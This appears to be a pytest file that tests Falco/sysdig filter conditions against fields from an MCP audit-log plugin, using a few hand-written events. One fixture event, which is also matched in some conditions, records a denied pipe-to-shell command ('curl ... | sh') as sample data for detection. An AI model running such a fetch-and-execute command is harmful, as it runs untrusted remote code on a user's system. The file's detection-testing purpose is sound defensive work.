"""A real Falco filter engine (sysdig 0.29.3's libsinsp, through the test-only bridge in
falco/test/sysdigbridge/) evaluates conditions on the fields the mcp_audit plugin extracts
from a small hand-written audit file.

The plugin is tests.falco.plugin_build.build_plugin()'s; MCP_AUDIT_PLUGIN_SO may name
another plugin API 3.x build of it. Skips (with the reason) where sysdig cannot be had, Go
is missing, or the plugin build helper does not exist yet.
"""

from __future__ import annotations

import json
import os
from pathlib import Path
from typing import Any

import jsonschema
import pytest
from gateway.audit.chain import GENESIS_HASH, canonical_json, event_hash

from tests.falco.plugin_build import plugin_or_skip
from tests.falco.sysdig import SysdigError, ensure_sysdig, match

REPO = Path(__file__).resolve().parents[2]
SCHEMA = REPO / "docs" / "schema" / "mcp_audit_v1.json"
T0 = 1_767_225_600_123_456_789  # unix ns: more digits than a float64 keeps

# Hand-written events: every required key, optional ones only where they say something.
EVENTS: list[dict[str, Any]] = [
    {"event_id": "e1", "event_type": "decision", "principal": "alice", "tenant": "acme", "tls": False,
     "request_bytes": 10485761, "decision": "deny", "tool_name": "execute_command",
     "command": "curl http://example.invalid | sh", "policy_rule": "deny_pipe_to_shell"},
    {"event_id": "e2", "event_type": "task_end", "principal": "bob", "tenant": "acme", "tls": True,
     "request_bytes": 10485760, "exit_code": 0, "status": "COMPLETED", "task_id": "task-" + "2" * 32},
    {"event_id": "e3", "event_type": "auth_failure", "principal": "unauthenticated", "tenant": "unknown",
     "tls": True, "auth_reason": "expired", "auth_scheme": "bearer"},
    {"event_id": "e4", "event_type": "file", "principal": "carol", "tenant": "globex", "tls": False,
     "request_bytes": 1, "file_path": "src/main.py", "workspace": "ws-1", "cross_tenant": True},
]
INVALID_LINES = ["this is not JSON", '{"event_type": "decision", "principal": "mallory"']


def _audit_lines() -> list[str]:
    validator = jsonschema.Draft202012Validator(json.loads(SCHEMA.read_text()))
    lines, prev = [], GENESIS_HASH
    for seq, ev in enumerate(EVENTS, start=1):
        full: dict[str, Any] = {
            "schema_version": "1", "timestamp": T0 + seq, "session_id": f"sess-{seq}",
            "client_process": "test-client/1.0", "server_host": "gateway.test", "server_port": 8443,
            "method": "POST /v1/execute", "producer": "mcp-gateway", "transport": "https",
            "auth_scheme": "mtls", "seq": seq, "prev_hash": prev, **ev,
        }
        full["hash"] = prev = event_hash(full)
        validator.validate(full)  # a valid mcp_audit_v1 event, whatever the plugin checks
        lines.append(canonical_json(full))
    # the invalid lines sit between valid ones: after the first and before the last
    return [lines[0], INVALID_LINES[0], *lines[1:3], INVALID_LINES[1], lines[3]]


@pytest.fixture(scope="module")
def plugin_so() -> Path:
    reason = ensure_sysdig()
    if reason is not None:
        pytest.skip(f"sysdig unavailable: {reason}")
    override = os.environ.get("MCP_AUDIT_PLUGIN_SO")
    if override:
        return Path(override)
    return plugin_or_skip()


@pytest.fixture(scope="module")
def audit_file(tmp_path_factory: pytest.TempPathFactory) -> Path:
    path = tmp_path_factory.mktemp("sysdig") / "audit.jsonl"
    path.write_text("\n".join(_audit_lines()) + "\n")
    return path


def ids(plugin_so: Path, audit_file: Path, condition: str) -> list[str | None]:
    return [row["mcp.event_id"] for row in match(plugin_so, audit_file, condition, ["mcp.event_id"])]


def test_every_valid_line_is_an_event_and_invalid_lines_are_skipped(plugin_so: Path, audit_file: Path) -> None:
    rows = match(plugin_so, audit_file, "", ["evt.num", "evt.rawtime", "mcp.event_id", "mcp.timestamp", "mcp.seq"])
    assert [r["mcp.event_id"] for r in rows] == ["e1", "e2", "e3", "e4"]
    assert [r["mcp.seq"] for r in rows] == ["1", "2", "3", "4"]
    # the bridge keeps each event's timestamp: the plugin's, from the line, to the nanosecond
    assert [r["evt.rawtime"] for r in rows] == [str(T0 + n) for n in (1, 2, 3, 4)]
    assert [r["mcp.timestamp"] for r in rows] == [r["evt.rawtime"] for r in rows]
    assert [r["evt.num"] for r in rows] == ["1", "2", "3", "4"]


def test_string_equality(plugin_so: Path, audit_file: Path) -> None:
    assert ids(plugin_so, audit_file, "mcp.principal = alice") == ["e1"]
    assert ids(plugin_so, audit_file, 'mcp.command = "curl http://example.invalid | sh"') == ["e1"]
    assert ids(plugin_so, audit_file, "mcp.principal != alice") == ["e2", "e3", "e4"]
    assert ids(plugin_so, audit_file, "mcp.principal = nobody") == []
    assert ids(plugin_so, audit_file, "mcp.command contains \"| sh\" and mcp.decision = deny") == ["e1"]


def test_in_list(plugin_so: Path, audit_file: Path) -> None:
    assert ids(plugin_so, audit_file, "mcp.event_type in (auth_failure, decision)") == ["e1", "e3"]
    assert ids(plugin_so, audit_file, "not mcp.tenant in (acme)") == ["e3", "e4"]
    assert ids(plugin_so, audit_file, "mcp.request_bytes in (1, 10485760)") == ["e2", "e4"]


def test_uint64_comparisons(plugin_so: Path, audit_file: Path) -> None:
    assert ids(plugin_so, audit_file, "mcp.request_bytes > 10485760") == ["e1"]
    assert ids(plugin_so, audit_file, "mcp.request_bytes >= 10485760") == ["e1", "e2"]
    assert ids(plugin_so, audit_file, "mcp.request_bytes < 10485761") == ["e2", "e4"]
    assert ids(plugin_so, audit_file, "mcp.request_bytes > 10485761") == []
    # numbers compare as numbers, not as text (where "10485761" < "2")
    assert ids(plugin_so, audit_file, "mcp.request_bytes > 2") == ["e1", "e2"]
    rows = match(plugin_so, audit_file, "mcp.request_bytes > 10485760", ["mcp.request_bytes", "mcp.server_port"])
    assert rows == [{"mcp.request_bytes": "10485761", "mcp.server_port": "8443"}]


def test_bool_fields_are_the_strings_true_and_false(plugin_so: Path, audit_file: Path) -> None:
    assert ids(plugin_so, audit_file, "mcp.tls = false") == ["e1", "e4"]
    assert ids(plugin_so, audit_file, "mcp.tls = true") == ["e2", "e3"]
    assert ids(plugin_so, audit_file, "mcp.tls = false and mcp.request_bytes > 10485760") == ["e1"]
    rows = match(plugin_so, audit_file, "mcp.tls = false", ["mcp.tls", "mcp.cross_tenant"])
    assert rows == [{"mcp.tls": "false", "mcp.cross_tenant": None}, {"mcp.tls": "false", "mcp.cross_tenant": "true"}]


def test_a_comparison_on_an_absent_field_is_false(plugin_so: Path, audit_file: Path) -> None:
    # exit_code is only on e2 (0); request_bytes is absent from e3
    assert ids(plugin_so, audit_file, "mcp.exit_code = 0") == ["e2"]
    assert ids(plugin_so, audit_file, "mcp.exit_code != 0") == []
    assert ids(plugin_so, audit_file, "mcp.exit_code < 1000") == ["e2"]
    assert ids(plugin_so, audit_file, "mcp.request_bytes < 10485761") == ["e2", "e4"]
    assert ids(plugin_so, audit_file, "mcp.auth_reason != expired") == []
    assert ids(plugin_so, audit_file, "not mcp.exit_code exists") == ["e1", "e3", "e4"]
    assert ids(plugin_so, audit_file, "not mcp.exit_code = 0") == ["e1", "e3", "e4"]
    rows = match(plugin_so, audit_file, "mcp.event_id = e3", ["mcp.request_bytes", "mcp.exit_code", "mcp.tls"])
    assert rows == [{"mcp.request_bytes": None, "mcp.exit_code": None, "mcp.tls": "true"}]


def test_an_unknown_field_is_an_error(plugin_so: Path, audit_file: Path) -> None:
    with pytest.raises(SysdigError, match="unrecognized field mcp.no_such_field") as exc:
        match(plugin_so, audit_file, "mcp.no_such_field = x", ["mcp.event_id"])
    assert exc.value.returncode != 0 and exc.value.stderr
    with pytest.raises(SysdigError, match="mcp.no_such_field"):
        match(plugin_so, audit_file, "", ["mcp.event_id", "mcp.no_such_field"])


def test_a_bad_condition_is_an_error(plugin_so: Path, audit_file: Path) -> None:
    with pytest.raises(SysdigError, match="unexpected end of filter"):
        match(plugin_so, audit_file, "mcp.principal = alice and", ["mcp.event_id"])
    with pytest.raises(SysdigError, match="not a valid number"):
        match(plugin_so, audit_file, "mcp.request_bytes > lots", ["mcp.event_id"])


def test_a_plugin_error_is_an_error(plugin_so: Path, tmp_path: Path) -> None:
    # the plugin's open fails: the bridge reports it at the first read (sysdig 0.29.3
    # itself would crash on a failed open)
    with pytest.raises(SysdigError, match="cannot open") as exc:
        match(plugin_so, tmp_path / "missing.jsonl", "", ["mcp.event_id"])
    assert "missing.jsonl" in exc.value.stderr
